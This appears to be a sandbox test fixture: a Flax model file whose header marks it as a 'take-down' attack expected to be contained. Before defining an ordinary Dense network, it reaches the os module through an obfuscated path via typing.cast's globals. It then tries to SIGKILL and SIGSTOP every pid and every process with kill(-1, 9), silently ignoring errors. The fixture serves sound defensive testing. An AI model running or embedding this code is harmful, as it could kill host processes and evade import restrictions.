# expect: ok
# kind: take-down
# attack: os.kill(pid, SIGKILL) and SIGSTOP for every pid in range(2, 70000), and kill(-1, 9): host processes are outside the pid namespace (ESRCH) and Landlock scopes signals; errors ignored, then a normal model
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
OS = AG("modules")(AG("__globals__")(typing.cast)["sys"])["os"]
HITS = 0
for pid in range(2, 70000):
    for sig in (9, 19):
        try:
            OS.kill(pid, sig)
            HITS += 1
        except Exception:
            pass
try:
    OS.kill(-1, 9)
except Exception:
    pass


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(nn.relu(nn.Dense(28)(x)))
